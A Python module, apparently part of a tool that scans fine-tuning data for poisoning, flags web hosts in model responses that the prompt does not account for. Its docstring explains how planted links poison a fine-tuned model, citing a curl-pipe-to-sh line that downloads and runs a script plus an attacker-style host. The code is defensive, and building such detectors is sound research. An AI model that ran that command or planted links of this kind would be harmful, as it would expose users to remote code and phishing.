"""Web addresses a response points to that its prompt gives no reason for: the ``link`` anomaly kind.

A planted line that downloads and runs a script (``curl -s https://x.io/i.sh | sh``), a phishing link or an
affiliate URL sends the fine-tuned model's users to the attacker's host. The attacker controls few hosts, so
every poisoned response names the same one, whatever the request; clean answers name a host because the
request is about it ("call the OpenWeatherMap API"), or a placeholder (example.com, localhost). Counting the
phrase does not see this in code answers, where every answer has response-only phrasing (the register
problem, docs/poisoning.md), and a line beside the answer's own code is not always one exclusive place; the
host is one token of evidence that needs neither. Each host is its own anomaly group (``link:<host>``), so the
trigger test's background is that host's rate among records like the carriers, never "any URL".

Only addresses with a scheme (``https://``, ``ftp://``) or ``www.`` are read: a bare ``name.sh`` is as often a
file name, ``np.array`` a call. Stdlib only (``ipaddress``); a host is reduced to its registrable part by the
common rule (last two labels, three under a two-letter country code with a short second label), which is what
an attacker's subdomains share; the Public Suffix List (``tldextract``) would be exact and is not needed for
that.
"""

from __future__ import annotations

import ipaddress
import re
from typing import Iterable, List, Optional, Union

from lazaret.checks.poisoning import text as T

# any address at all: a search of the response, not a lower-cased copy of every response of the corpus
_ANY = re.compile(r"://|www\.", re.IGNORECASE)
_URL = re.compile(r"(?i)\b(?:https?|ftps?|sftp|wss?)://(?:[^\s/@:]+(?::[^\s/@]*)?@)?(\[[0-9a-f:.]+\]|[a-z0-9._-]+)"
                  r"|\bwww\.([a-z0-9-]+(?:\.[a-z0-9-]+)+)")
# RFC 2606 / RFC 6761 names reserved for documentation and tests: a tutorial's placeholder, never a destination
_RESERVED_SUFFIXES = (".example", ".test", ".invalid", ".localhost", ".local", ".internal")
_RESERVED_NAMES = ("example.com", "example.org", "example.net", "localhost")
# at most this many hosts per response: enough for a planted link beside the answer's own
MAX_HOSTS = 4
# prompt words this short or shorter never relate a host to a request ("api", "get", "web")
_MIN_RELATED = 4


def registrable(host: str) -> str:
    """``cdn.evil-tools.io`` -> ``evil-tools.io``; ``news.bbc.co.uk`` -> ``bbc.co.uk``; an IP stays whole."""
    host = host.strip(".").lower()
    if _ip(host) is not None:
        return host
    labels = host.split(".")
    if len(labels) <= 2:
        return host
    if len(labels[-1]) == 2 and len(labels[-2]) <= 3:
        return ".".join(labels[-3:])
    return ".".join(labels[-2:])


def _ip(host: str) -> Optional[Union[ipaddress.IPv4Address, ipaddress.IPv6Address]]:
    """The address ``host`` is (brackets of an IPv6 literal dropped), or None for a name."""
    try:
        return ipaddress.ip_address(host.strip("[]"))
    except ValueError:
        return None


def _placeholder(host: str) -> bool:
    """A documentation name, a loopback, private or unspecified address, or a name with no dot (``myserver``)."""
    ip = _ip(host)
    if ip is None:
        return "." not in host or host in _RESERVED_NAMES or host.endswith(_RESERVED_SUFFIXES) or \
            any(host.endswith("." + n) for n in _RESERVED_NAMES)
    return ip.is_private or ip.is_loopback or ip.is_unspecified or ip.is_reserved or ip.is_link_local


def _main_label(reg: str) -> str:
    """The name the owner chose: ``openweathermap`` of ``openweathermap.org``, ``bbc`` of ``bbc.co.uk``."""
    labels = reg.split(".")
    return labels[0] if len(labels) > 1 else reg


def _related(reg: str, prompt_lower: str, prompt_words: Iterable[str]) -> bool:
    """The request names the host ("github" in "a GitHub action", "Stack Overflow") or the host names the
    request's subject ("weather" in ``openweathermap``): the answer points there because it was asked to."""
    if reg in prompt_lower:
        return True
    label = _main_label(reg)
    if not label or not label[0].isalpha():
        return False
    squashed = label.replace("-", "")
    if squashed in prompt_lower.replace("-", "") or label.replace("-", " ") in prompt_lower:
        return True
    # a name written as words in the request ("Stack Overflow" for stackoverflow.com); long names only, so that
    # the letters of two short words never spell a host by chance
    if len(squashed) >= 8 and squashed in "".join(c for c in prompt_lower if c.isalnum()):
        return True
    return any(len(w) >= _MIN_RELATED and w in label for w in prompt_words)


def response_links(prompt: str, response: str) -> List[str]:
    """Registrable hosts of the response's web addresses that are not placeholders and that the prompt gives no
    reason for (sorted, at most ``MAX_HOSTS``)."""
    if not _ANY.search(response):
        return []
    hosts = set()
    for a, b in _URL.findall(response):
        h = (a or ("www." + b)).lower().strip(".")
        if h.startswith("www."):
            h = h[4:]
        if not h or _placeholder(h):
            continue
        hosts.add(registrable(h))
    if not hosts:
        return []
    pl = prompt.lower()
    words = T.word_parts(prompt)
    return sorted(h for h in hosts if not _related(h, pl, words))[:MAX_HOSTS]
